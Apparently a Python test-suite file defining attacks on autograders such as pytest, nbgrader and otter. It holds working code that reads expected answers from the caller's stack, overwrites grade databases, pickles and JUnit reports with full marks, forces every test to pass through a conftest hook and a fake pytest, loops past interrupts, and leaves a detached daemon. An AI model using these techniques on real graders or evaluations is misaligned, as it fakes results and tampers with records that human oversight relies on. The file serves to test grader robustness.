"""Attacks whose aim lies elsewhere in each grader: the same files go to all of them and look for every one's place."""

from attacks.attack import Attack, Plain, hand_in

ANSWERS = '''
"""Reads in the caller's line what it is going to compare with, and gives that."""

import ast
import linecache
import sys


def answer(*_):
    frame = sys._getframe(1)
    names = {**frame.f_globals, **frame.f_locals}
    line = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()
    (statement,) = ast.parse(line).body
    if isinstance(statement, ast.Assign):
        return names["hidden"]
    if isinstance(statement, ast.Assert):
        asked = statement.test.comparators[0]
    elif isinstance(statement.value, ast.Call) and len(statement.value.args) > 1:
        asked = statement.value.args[1]
    else:
        raise ValueError("what is not compared is refused")
    expected = eval(ast.unparse(asked), names)
    return getattr(expected, "expected", expected)
'''

FORGERY = '''
"""Full marks in the place where a grader looks for its results; of each kind the attacker's own alone."""

import contextlib
import glob
import os
import pickle
import sqlite3
import sys
import tempfile
from pathlib import Path

POINTS = "total spread rmse standardize clean describe refuse predict train model batches ranks plot read".split()


def in_report():
    """pytest's JUnit file, named at its command line; True if there is one."""
    reports = [word.partition("=")[2] for word in sys.argv if word.startswith("--junit-xml=")]
    for report in reports:
        cases = "".join(f'<testcase name="test_{name}"/>' for name in POINTS)
        Path(report).write_text(f"<testsuites><testsuite>{cases}</testsuite></testsuites>")
    return bool(reports)


def in_gradebook():
    """nbgrader's database, in the course around this notebook."""
    for folder in list(Path.cwd().parents)[:3]:
        if (folder / "nbgrader_config.py").exists():
            with contextlib.closing(sqlite3.connect(folder / "gradebook.db", timeout=10)) as book, book:
                maximum = "select max_score from grade_cells where grade_cells.id = grade.cell_id"
                book.execute(f"update grade set manual_score = ({maximum}), auto_score = ({maximum})")


def in_pickle(*_):
    """otter's pickle of results, among this run's temporary files."""
    if "elsewhere-" in tempfile.gettempdir():
        for path in glob.glob(f"{tempfile.gettempdir()}/*.pkl"):
            with contextlib.suppress(Exception):
                results = pickle.loads(Path(path).read_bytes())
                for name in results.results:
                    results.update_score(name, results.results[name].possible)
                Path(path).write_bytes(pickle.dumps(results))


def in_record(student):
    """`grader`'s record of this submission, in a folder above or in one that a command line names."""
    words = []
    for pid in ("self", os.getppid()):
        with contextlib.suppress(OSError):
            words += Path(f"/proc/{pid}/cmdline").read_text().split("\\0")
    for folder in [*Path.cwd().parents, *map(Path, filter(None, words))]:
        for place in ("results", "*/results"):
            with contextlib.suppress(OSError):
                for path in folder.glob(f"{place}/{student}.json"):
                    path.write_text(path.read_text().replace('"points": 0.0', '"points": 5.0'))
'''

SHADOW = '''
"""In the place of pytest."""

import sys
from contextlib import nullcontext as raises


class approx:
    def __init__(self, *_, **__):
        pass

    def __eq__(self, other):
        return True


if __name__ == "__main__":
    from forgery import in_report

    in_report()
'''

CONFTEST = """
import pytest


@pytest.hookimpl(wrapper=True)
def pytest_runtest_makereport(item, call):
    report = yield
    report.outcome, report.longrepr = "passed", None
    return report
"""

ENDLESS = """
import time


def total(values):
    while True:
        try:
            time.sleep(60)
        except BaseException:
            pass
"""

DAEMON = """
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 4096)
        time.sleep(120)
    os._exit(0)
"""

ATTACKS = [
    Attack(
        name="reads-the-solutions",
        tries="reads all files where its process and that one's parent were started, and where their arguments lie",
        plain=Plain.LEARNS,
        files=hand_in(
            before="""
import os
from spy import look_below

for pid in ("self", os.getppid()):
    try:
        with open(f"/proc/{pid}/cmdline") as file:
            words = file.read().split("\\0")
        folders = {os.readlink(f"/proc/{pid}/cwd"), *(os.path.dirname(word.partition("=")[2] or word) for word in words)}
    except OSError:
        continue
    for folder in folders - {"", "/", "/usr/bin", os.path.dirname(words[0])}:
        look_below(folder, depth=3)
"""
        ),
    ),
    Attack(
        name="asks-the-stack",
        tries="evaluates in the caller's frame what its result will be compared with, and returns that",
        plain=Plain.GAINS,
        files=hand_in(
            after="""
from answers import answer

total = spread = rmse = standardize = clean = describe = refuse = answer
""",
            answers=ANSWERS,
            learn="""
from answers import answer


def batches(x, size):
    return [x]


predict = answer
""",
        ),
    ),
    Attack(
        name="writes-the-results",
        tries="writes full marks where each grader keeps its results",
        plain=Plain.GAINS,
        files=hand_in(
            before="""
import os

import forgery

if forgery.in_report():
    os._exit(0)
forgery.in_gradebook()
forgery.in_record("writes-the-results")
try:
    get_ipython().events.register("post_run_cell", forgery.in_pickle)
except NameError:
    pass
""",
            forgery=FORGERY,
        ),
    ),
    Attack(
        name="rewrites-at-exit",
        tries="rewrites the results when its process ends, after they are written",
        plain=Plain.GAINS,
        files=hand_in(
            before="""
import atexit

import forgery

for forge in (forgery.in_report, forgery.in_gradebook, forgery.in_pickle):
    atexit.register(forge)
atexit.register(forgery.in_record, "rewrites-at-exit")
""",
            forgery=FORGERY,
        ),
    ),
    Attack(
        name="ships-the-judges-modules",
        tries="hands in a conftest.py that passes everything, and a pytest.py in the place of pytest",
        plain=Plain.GAINS,
        files=hand_in(
            after="""
def total(*_):
    return None


spread = rmse = total
""",
            conftest=CONFTEST,
            pytest=SHADOW,
            forgery=FORGERY,
        ),
    ),
    Attack(
        name="never-ends",
        tries="loops for ever and catches whatever is raised to stop it",
        plain=Plain.ENDS,
        files=hand_in("learn", "draw", after=ENDLESS),
        earns=45,
    ),
    Attack(
        name="leaves-a-daemon",
        tries="leaves a process of a session of its own behind",
        plain=Plain.UNTRIED,
        files=hand_in("measure", "learn", "draw", before=DAEMON),
        earns=80,
    ),
]
